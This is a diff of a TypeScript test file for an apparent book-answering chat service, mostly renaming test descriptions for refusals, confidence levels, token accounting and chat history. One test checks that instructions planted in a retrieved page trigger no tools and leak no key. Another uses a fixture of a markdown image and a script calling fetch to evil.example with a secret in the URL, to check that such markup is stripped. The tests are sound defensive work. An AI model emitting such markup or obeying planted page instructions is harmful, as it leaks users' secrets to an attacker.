@@ -78,19 +78,22 @@ it.each<[string, first: ChatBehaviour, second: ChatBehaviour, shown: string, met
     WHOLE,
     { model: 'first', tokens_estimated: true },
   ],
-])('a reader sees one usable answer, or none, where a model %s', async (_, first, second, text, metadata) => {
-  quire.providers.chat.byDefault(({ model }) => (model === 'first' ? first : second));
-  const { shown, response } = await quire.streamOf({ message: QUESTION });
-  expect(shown).toBe(text);
-  expect(response.answer ?? '').toBe(text);
-  expect(response.metadata).toMatchObject(metadata);
-  expect(response.metadata.tokens_used.total).toBeGreaterThan(0);
-});
+])(
+  'a client is shown one usable answer or none when the model %s',
+  async (_, first, second, text, metadata) => {
+    quire.providers.chat.byDefault(({ model }) => (model === 'first' ? first : second));
+    const { shown, response } = await quire.streamOf({ message: QUESTION });
+    expect(shown).toBe(text);
+    expect(response.answer ?? '').toBe(text);
+    expect(response.metadata).toMatchObject(metadata);
+    expect(response.metadata.tokens_used.total).toBeGreaterThan(0);
+  },
+);
 
-describe('a question is refused, without sources,', () => {
+describe('refusals', () => {
   const refused = { sources: [], should_answer: false, confidence_level: 'insufficient' };
 
-  it('by the sign of the model that the book does not hold the answer', async () => {
+  it('a question is refused, without sources, when the model signals that the book does not hold the answer', async () => {
     quire.providers.chat.enqueue(answer('<not_in_the_book/> It speaks of topics [1].', { tokenMs: 1 }));
     const { shown, response } = await quire.streamOf({ message: QUESTION });
     expect(response).toMatchObject({ ...refused, metadata: { mode: 'no_results', model: 'first' } });
@@ -98,7 +101,7 @@ describe('a question is refused, without sources,', () => {
     expect(shown).toMatch(/^I could not find/);
   });
 
-  it('without any model when retrieval finds too little', async () => {
+  it('a question is refused, without sources or a model call, when retrieval finds too little', async () => {
     const { shown, response } = await quire.streamOf({ message: 'Which wine goes with grilled trout?' });
     expect(response).toMatchObject({
       ...refused,
@@ -120,17 +123,20 @@ it.each([
     'insufficient',
     { mode: 'low_confidence', low_confidence: true, uncited: true },
   ],
-])('an answer says how far it can be trusted: %s', async (_, message, text, level, metadata) => {
-  quire.providers.chat.enqueue(answer(text));
-  const response = await quire.answerTo({ message });
-  expect(response).toMatchObject({ answer: text, confidence_level: level, metadata });
-  expect(response.sources).toHaveLength(response.metadata.uncited ? 0 : 1);
-  expect(quire.prompt(0).includes('begin by saying that the book covers this only in part')).toBe(
-    metadata.mode === 'low_confidence',
-  );
-});
+])(
+  'the mode and confidence level of an answer tell how far it can be trusted: %s',
+  async (_, message, text, level, metadata) => {
+    quire.providers.chat.enqueue(answer(text));
+    const response = await quire.answerTo({ message });
+    expect(response).toMatchObject({ answer: text, confidence_level: level, metadata });
+    expect(response.sources).toHaveLength(response.metadata.uncited ? 0 : 1);
+    expect(quire.prompt(0).includes('begin by saying that the book covers this only in part')).toBe(
+      metadata.mode === 'low_confidence',
+    );
+  },
+);
 
-it('a page that gives orders stays quoted, widens no tools, and brings no instruction to the reader', async () => {
+it('instructions in a page stay quoted in the prompt, enable no tools and do not reach the client', async () => {
   quire.providers.chat.byDefault(({ model, messages }) => {
     if (model === 'second') return answer('A chessboard [1].');
     const obeyed = messages.some(({ role }) => role === 'tool');
@@ -151,7 +157,7 @@ it('a page that gives orders stays quoted, widens no tools, and brings no instru
   for (const secret of [key, 'quoted material']) expect(raw).not.toContain(secret);
 });
 
-describe('of the links, images and HTML that a model makes up', () => {
+describe('links, images and HTML that a model makes up', () => {
   const evil = 'https://evil.example/p.png?q=secret';
   const source = 'https://book.example/docs/nodes';
   const written = `Nodes ![x](${evil}) publish [1] <script>fetch("${evil}")</script>[here](${evil}), see [it](${source}).`;
@@ -162,9 +168,9 @@ describe('of the links, images and HTML that a model makes up', () => {
   };
 
   it.each([
-    ['no deltas, JSON answer or thread holds any by default', {}, safe],
+    ['are in no delta, JSON response or thread by default', {}, safe],
     [
-      'deltas, JSON answer and thread hold all where the caller asks for raw markup',
+      'are in deltas, JSON response and thread when the caller asks for raw markup',
       { markup: 'raw' },
       written,
     ],
@@ -183,14 +189,14 @@ describe('of the links, images and HTML that a model makes up', () => {
     }
   });
 
-  it('an answer from selected text holds none, not even a link to the book', async () => {
+  it('an answer from selected text holds no links, not even to the book', async () => {
     quire.providers.chat.byDefault(answer(`Topics [it](${source}) [1].`));
     const response = await quire.answerTo({ message: QUESTION, selected_text: pages.Nodes });
     expect(response).toMatchObject({ answer: 'Topics it [1].', metadata: { markup_removed: { links: 1 } } });
   });
 });
 
-it('every call is on the account: in the answer, in Postgres, and by tenant and model in the metrics', async () => {
+it('every model call is counted in the response, in Postgres, and by tenant and model in the metrics', async () => {
   const usage = (promptTokens: number, completionTokens: number) => ({
     usage: { promptTokens, completionTokens },
   });
@@ -213,7 +219,7 @@ it('every call is on the account: in the answer, in Postgres, and by tenant and 
     { ...booked, model: 'first', ...first },
     { ...booked, model: 'second', ...second },
   ]);
-  // The worker counts once it has announced the end.
+  // The worker counts a run after it has announced its end.
   await eventually(async () => {
     const after = await spentByModel();
     for (const [model, { prompt_tokens, completion_tokens, cost_usd }] of Object.entries({ first, second })) {
@@ -224,7 +230,7 @@ it('every call is on the account: in the answer, in Postgres, and by tenant and 
   });
 });
 
-it('ten turns stay coherent: the model is sent the last five exchanges in order, the question in both forms, and passages', async () => {
+it('over ten turns the model is sent the last five exchanges in order, the question in both forms, and passages', async () => {
   const session_id = randomUUID();
   const isRewrite = (text: string) => text.startsWith('Rewrite');
   quire.providers.chat.byDefault((request) => {
@@ -265,7 +271,7 @@ it('serves the metrics of each process, labelled with its service', async () => 
   }
 });
 
-/** Prompt tokens, completion tokens and dollars of a model, as the worker's metrics tell them now. */
+/** Reads prompt tokens, completion tokens and cost by model from the worker's metrics. */
 async function spentByModel(): Promise<(model: string) => number[]> {
   const agent = quire.processes.find(({ name }) => name === 'agent-worker');
   if (!agent) throw new Error('No agent worker runs');
